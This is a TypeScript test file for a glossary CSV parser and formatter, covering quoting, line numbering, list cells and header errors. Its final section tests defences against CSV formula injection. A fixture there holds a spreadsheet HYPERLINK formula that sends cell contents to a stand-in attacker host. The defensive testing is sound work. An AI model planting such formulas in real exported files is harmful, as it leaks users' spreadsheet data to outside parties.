import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { CsvError, formatCsv, joinList, parseCsv, readGlossaryCsv, splitList, writeGlossaryCsv } from "../../../src/formats/csv.js";

/** The problems a CsvError carries, as "line N: message" strings. */
function problemsOf(run: () => unknown): string[] {
  try {
    run();
  } catch (error) {
    if (error instanceof CsvError) return error.problems.map((p) => `${p.where}: ${p.message}`);
    throw error;
  }
  throw new Error("expected a CsvError");
}

describe("parseCsv", () => {
  it("reads plain fields and numbers each record by the line it starts on", () => {
    expect(parseCsv("a,b\nc,d\n")).toEqual([
      { line: 1, fields: ["a", "b"] },
      { line: 2, fields: ["c", "d"] },
    ]);
  });

  it("reads quoted commas, doubled quotes and line breaks, counting physical lines", () => {
    const rows = parseCsv('name,definition\r\nCustomer,"One, ""two""\r\nthree\nfour"\r\nChurn,x\r\n');
    expect(rows).toEqual([
      { line: 1, fields: ["name", "definition"] },
      { line: 2, fields: ["Customer", 'One, "two"\r\nthree\nfour'] },
      { line: 5, fields: ["Churn", "x"] },
    ]);
  });

  it("tolerates a UTF-8 BOM, a missing final line break, empty fields and blank lines", () => {
    expect(parseCsv("\uFEFFa,b,\n\n\r\n,,\nlast,\"\"")).toEqual([
      { line: 1, fields: ["a", "b", ""] },
      { line: 4, fields: ["", "", ""] },
      { line: 5, fields: ["last", ""] },
    ]);
  });

  it("keeps a lone CR and spaces inside fields as they are", () => {
    expect(parseCsv(' a ,b\rc\n')).toEqual([{ line: 1, fields: [" a ", "b\rc"] }]);
  });

  it("reports an unclosed quote at the line it opened on", () => {
    expect(problemsOf(() => parseCsv('a,b\nc,"never\nclosed\n'))).toEqual(["line 2: a quoted field is never closed (a quote is missing)"]);
  });

  it("reports every stray quote with its line, and reads nothing", () => {
    expect(problemsOf(() => parseCsv('a,b\nc,d"e\nf,"g"h\nok,fine\n'))).toEqual([
      'line 2: a quote inside an unquoted field; quote the whole field and write the quote twice ("")',
      'line 3: text follows a closing quote; a quote inside a quoted field is written twice ("")',
    ]);
  });

  it("reads back whatever formatCsv writes", () => {
    const field = fc.string({ unit: fc.constantFrom("a", " ", ",", '"', "\n", "\r", "é", ";") });
    fc.assert(
      fc.property(fc.array(fc.array(field, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        expect(parseCsv(formatCsv(rows)).map((r) => r.fields)).toEqual(rows);
        return true;
      }),
    );
  });
});

describe("list cells", () => {
  it("splits at unescaped semicolons and trims", () => {
    expect(splitList(" client ;account holder;; ")).toEqual(["client", "account holder"]);
    expect(splitList("a\\;b; c\\\\;d")).toEqual(["a;b", "c\\", "d"]);
    expect(splitList("")).toEqual([]);
  });

  it("round-trips any trimmed items", () => {
    const item = fc.string({ unit: fc.constantFrom("a", "b", ";", "\\", " ") }).map((s) => s.trim()).filter((s) => s !== "");
    fc.assert(
      fc.property(fc.array(item), (items) => {
        expect(splitList(joinList(items))).toEqual(items);
        return true;
      }),
    );
  });
});

describe("the glossary CSV", () => {
  const glossary = {
    domains: [],
    terms: [
      {
        name: "Customer",
        definition: 'Paid, at least "once".\nTwice.',
        example: null,
        formula: "count(*)",
        aliases: ["client", "a;b"],
        owner: "sales",
        consumers: ["finance", "support"],
        tags: ["core"],
        policy: "majority" as const,
        status: "active" as const,
        variants: [{ domain: "support", text: "Anyone with a ticket" }],
      },
      {
        name: "Churn Rate",
        definition: "Share who left.",
        example: "5%",
        formula: null,
        aliases: [],
        owner: null,
        consumers: [],
        tags: [],
        policy: null,
        status: "deprecated" as const,
        variants: [],
      },
    ],
  };

  it("writes one row per term with variant columns after the fixed ones", () => {
    const text = writeGlossaryCsv(glossary);
    expect(text.split("\r\n")[0]).toBe("name,definition,example,formula,aliases,owner,consumers,tags,policy,status,variant:support");
    const records = readGlossaryCsv(text);
    expect(records.map((r) => r.where)).toEqual(["line 2", "line 4"]);
    expect(records[0]!.data).toMatchObject({
      name: "Customer",
      definition: 'Paid, at least "once".\nTwice.',
      aliases: ["client", "a;b"],
      consumers: ["finance", "support"],
      variants: [{ domain: "support", text: "Anyone with a ticket" }],
    });
    expect(records[1]!.data).toMatchObject({ example: "5%", owner: "", status: "deprecated", variants: [] });
  });

  it("needs only name and definition, in any order and case", () => {
    const [record] = readGlossaryCsv("Definition,NAME\nThe share who left,Churn\n");
    expect(record!.data).toMatchObject({ name: "Churn", definition: "The share who left", aliases: [], owner: null });
  });

  it("reports header problems and rows of the wrong width with their lines", () => {
    expect(problemsOf(() => readGlossaryCsv("name,colour\na,b\nc\n"))).toEqual([
      'line 1: unknown column "colour"; the columns are name, definition, example, formula, aliases, owner, consumers, tags, policy, status and variant:<domain>',
      'line 1: the header has no "definition" column',
      "line 3: 1 fields, but the header has 2",
    ]);
    expect(problemsOf(() => readGlossaryCsv(""))).toEqual(["line 1: the file is empty; it needs a header row (name,definition,…)"]);
  });
});

describe("cells a spreadsheet would run as formulas", () => {
  const hostile = {
    name: "Customer",
    definition: '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    example: "+1 555 0100",
    formula: "-2+3",
    aliases: ["@SUM(A1:A9)", "client"],
    owner: "sales",
    consumers: [],
    tags: ["-internal"],
    policy: null,
    status: "active" as const,
    variants: [{ domain: "support", text: "'=already quoted once" }],
  };
  const glossary = { domains: [], terms: [hostile, { ...hostile, name: "Churn", definition: "\rstarts with a carriage return", formula: "'-'" }] };

  it("are written behind an apostrophe and quoted, so a spreadsheet shows them as text", () => {
    const [, customer] = writeGlossaryCsv(glossary).split("\r\n");
    expect(customer).toBe(
      `Customer,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")","'+1 555 0100","'-2+3","'@SUM(A1:A9); client",sales,,"'-internal",,active,"''=already quoted once"`,
    );
    expect(formatCsv([["\r"], ["\tx"], ["＝1+1"], ["safe - text"], ["'plain apostrophe"]])).toBe(
      `"'\r"\r\n"'\tx"\r\n"'＝1+1"\r\nsafe - text\r\n'plain apostrophe\r\n`,
    );
  });

  it("are read back as they were, so export, import and export again writes the same bytes", () => {
    const first = writeGlossaryCsv(glossary);
    const records = readGlossaryCsv(first);
    expect(records.map((r) => r.data)).toMatchObject([
      { definition: hostile.definition, example: "+1 555 0100", formula: "-2+3", aliases: ["@SUM(A1:A9)", "client"], tags: ["-internal"] },
      { definition: "\rstarts with a carriage return", formula: "'-'", variants: [{ domain: "support", text: "'=already quoted once" }] },
    ]);
    const reread = { domains: [], terms: records.map((r, i) => ({ ...glossary.terms[i]!, ...(r.data as object) })) };
    expect(writeGlossaryCsv(reread as typeof glossary)).toBe(first);
  });

  it("round-trip whatever cells formatCsv writes, apostrophes and formula signs included", () => {
    const field = fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "'", "a", ",", '"', "\n", "＠") });
    fc.assert(
      fc.property(fc.array(fc.array(field, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const text = formatCsv(rows);
        expect(parseCsv(text).map((r) => r.fields)).toEqual(rows);
        expect(formatCsv(parseCsv(text).map((r) => r.fields))).toBe(text);
        return true;
      }),
    );
  });
});
